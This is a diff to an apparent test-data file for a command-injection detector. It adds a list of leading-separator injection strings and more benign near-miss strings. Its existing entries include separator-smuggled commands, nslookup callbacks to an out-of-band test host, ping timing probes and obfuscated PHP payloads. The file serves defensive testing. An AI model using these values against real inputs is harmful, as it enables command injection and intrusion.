@@ -165,6 +165,8 @@ COMMANDS = {
                  "test\x1aping -n 25 127.0.0.2\x1atest", "test'\x1a{ping,25,localhost}\x1a'",
                  "&::nslookup k7q2.x9f3.oast.example&::test", "test&::ping\t-c25\tlocalhost&::test",
                  "nslookup k7q2.x9f3.oast.example", "nslookup\x0bk7q2.x9f3.oast.example&"],
+    # a separator the value starts with, then a command whatever its arguments (the injection's only shape)
+    "leading separator": [";top x y", "|vi (x", "\"; cat food", "\nls foo", "&& uptime please", "|| df x"],
 }
 COMMAND_NEAR_MISSES = [
     # carets, braced variables, SUB bytes and '+' in text (the commix tampers' readings find no command here)
@@ -216,12 +218,13 @@ COMMAND_NEAR_MISSES = [
     # fresh6 near misses: numbers and words after echo, expr in prose, host names in prose, a substitution in a
     # markdown span, options and pipes in text
     "Amazon|Echo 360", "hi; echo hello", "x; echo 12", "echo 4821", "expr 1 + 2", "see; expr is a tool",
-    "a; expr x + y", "Tom; see me.later", "; host index.html", "contact | Host Europe.de", "ping me.later",
+    "a; expr x + y", "Tom; see me.later", "x; host index.html", "contact | Host Europe.de", "ping me.later",
     "use `make` here; echo `x` ok", "name|", "a|b|", "id|name", "select --exec=foo", "--execute=true",
     "x --rsh is an option", "the -TT= flag", "use --open-files-in-pager with git grep",
     "Price ${100} now", "${12345}", "a; ${2024} b",
     "ping me \U0001f600", "Call me; ping \U0001f600", "fe80::", "a&::b", "R&::D notes", "data\x1aend",
     "nslookup example", "ping me.later", "dig this.site",
+    "| date | price |", "|date|", "&sort", "&type=id", "; Done", "| Date", ";-)", "; see below", "\nDate: today",
 ]
 CODE_PAYLOADS = {
     "php": ["$_=(\"%28\"^\"[\").(\"%33\"^\"[\");", "$_=\"`{{{\"^\"?<>/\";", "$__++;$__++;$___.=$__;",
